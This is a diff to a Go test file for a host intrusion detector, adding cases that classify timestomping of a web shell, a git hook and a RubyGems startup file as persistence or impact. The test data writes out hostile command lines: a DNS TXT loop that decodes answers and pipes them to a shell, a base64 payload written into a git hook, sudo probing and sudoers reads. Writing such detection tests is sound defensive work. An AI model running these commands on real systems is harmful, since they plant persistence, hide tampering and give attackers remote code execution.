@@ -22,7 +22,13 @@ func TestPrivescSearchTimestompDNSTasksHooks(t *testing.T) {
 		// made after news-deser was scored: sudo used at all by the web account
 		{"sudo used", "/usr/bin/sudo", []string{"sudo", "-n", "id"}, "privilege-search-web", StageSuspiciousSpawn},
 		{"sudo rules read", "/usr/bin/cat", []string{"cat", "/etc/sudoers.d/alice"}, "privilege-search-web", 0}, // placed by the merged act's primary rule
-		{"timestomp", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/srv/git/site/.git/hooks/post-merge"}, "timestomp-web", StageExfiltrationImpact},
+		{"timestomp", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/var/www/shell.php"}, "timestomp-web", StageExfiltrationImpact},
+		// a hook no audited write was seen changing: the reset is the only
+		// evidence of the plant (the reference file, and a .sample hook
+		// git never runs, are not what it acts on)
+		{"timestomp of a persistence file", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/srv/git/site/.git/hooks/post-merge"}, "timestomp-persistence-web", StagePersistence},
+		{"timestomp of a start-up file", "/usr/bin/touch", []string{"touch", "-d", "2021-01-16 15:46:57", "/usr/lib/ruby/vendor_ruby/rubygems/defaults/operating_system.rb"}, "timestomp-persistence-web", StagePersistence},
+		{"timestomp by a reference in a hook folder", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/srv/git/site/README"}, "timestomp-web", StageExfiltrationImpact},
 		{"DNS answers fed to a shell", "/usr/bin/dash", []string{"sh", "-c", "while :; do dig +short TXT 1.h.upd.example.lab | tr -d '\"' | base64 -d | sh; sleep 3; done"}, "web-server-exploitation", StageSuspiciousSpawn}, // a channel started by the web server's shell, as a reverse shell is
 		{"a git hook written", "/usr/bin/dash", []string{"sh", "-c", "echo ZWNobwo= | base64 -d > /srv/git/site/.git/hooks/post-merge"}, "web-server-exploitation", StagePersistence},
 	} {
